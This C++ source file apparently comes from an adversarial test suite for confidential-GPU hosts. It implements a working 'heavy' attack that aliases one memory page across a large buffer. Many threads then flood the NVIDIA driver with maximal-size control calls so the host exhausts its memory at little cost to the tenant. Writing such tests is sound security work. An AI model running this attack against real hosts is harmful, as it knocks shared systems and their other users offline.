// Attacks on the memory of the host: many threads, each in a call that leads to as much of the
// tenant's memory as a call can. All lead to the same few pages, so they cost the tenant nothing.
#include <sys/mman.h>

#include <atomic>
#include <bit>
#include <thread>

#include "common.h"
#include "rm/control_table.h"
#include "rm/nv_controls.h"
#include "rm/nv_ctrl.h"

namespace cgpu::adversary {
namespace {

constexpr std::uint32_t kMost = kMiB;  // what the driver copies for one pointer

// Returns `bytes` of memory that all lie on one page.
std::uint64_t SamePage(std::size_t bytes) {
  constexpr std::size_t kPage = 4096;
  const int file = memfd_create("page", MFD_CLOEXEC);
  char* const place = static_cast<char*>(
      mmap(nullptr, bytes, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0));
  if (file < 0 || ftruncate(file, kPage) != 0 || place == MAP_FAILED) {
    Die("failed: no memory");
  }
  for (std::size_t at = 0; at < bytes; at += kPage) {
    if (mmap(place + at, kPage, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, file, 0) ==
        MAP_FAILED) {
      Die("failed: no memory");
    }
  }
  return std::bit_cast<std::uint64_t>(place);
}

// Three strings that the driver writes.
void AskForStrings(const Client& client, std::uint64_t memory) {
  rm::NV0000_CTRL_SYSTEM_GET_BUILD_VERSION_PARAMS params{};
  params.sizeOfStrings = kMost;
  params.pDriverVersionBuffer = params.pVersionBuffer = params.pTitleBuffer = memory;
  (void)client.Control(client.root, rm::NV0000_CTRL_CMD_SYSTEM_GET_BUILD_VERSION, &params,
                       sizeof(params));
}

// Three lists that the driver reads.
void NameChannels(const Client& client, std::uint64_t memory) {
  rm::NVOS30_PARAMETERS idle{};
  idle.hClient = client.root;
  idle.hDevice = Client::kDevice;
  idle.numChannels = kMost / sizeof(std::uint32_t);
  idle.phClients = idle.phDevices = idle.phChannels = memory;
  idle.flags = rm::NVOS30_FLAGS_CHANNEL.Set(0, rm::NVOS30_FLAGS_CHANNEL_LIST);
  (void)Plainly(client.ctl, rm::NV_ESC_RM_IDLE_CHANNELS, &idle, sizeof(idle));
}

// The longest parameters that a control has.
void AskForProcesses(const Client& client, std::uint64_t memory) {
  constexpr std::uint32_t kCommand = rm::NV2080_CTRL_CMD_GPU_GET_PID_INFO;
  (void)client.Control(Client::kSubdevice, kCommand, std::bit_cast<void*>(memory),
                       rm::ControlSize(rm::GetAbi(kBranch), kCommand));
}

// heavy strings|lists|params [THREADS]: until stdin is closed.
int Heavy(const std::vector<std::string>& args) {
  const std::string kind = args.empty() ? "strings" : args[0];
  const std::uint64_t count = Number(args, 1, 1200);
  const Client client = MakeClient();
  const std::uint64_t memory = SamePage(kMost);
  std::atomic<std::uint64_t> begun{0};
  std::atomic<bool> stop{false};
  std::vector<std::thread> threads;
  threads.reserve(count);
  for (std::uint64_t i = 0; i < count; ++i) {
    threads.emplace_back([&] {
      for (bool first = true; !stop.load(); first = false) {
        if (first) {
          ++begun;
          begun.notify_one();
        }
        if (kind == "strings") {
          AskForStrings(client, memory);
        } else if (kind == "lists") {
          NameChannels(client, memory);
        } else {
          AskForProcesses(client, memory);
        }
      }
    });
  }
  for (std::uint64_t now = begun.load(); now < count; now = begun.load()) {
    begun.wait(now);
  }
  Hold();
  stop = true;
  for (std::thread& thread : threads) {
    thread.join();
  }
  return 0;
}

}  // namespace

std::vector<Entry> HeavyAttacks() {
  return {
      {"heavy", Heavy, "strings|lists|params [THREADS]: calls that lead to much memory"},
  };
}

}  // namespace cgpu::adversary
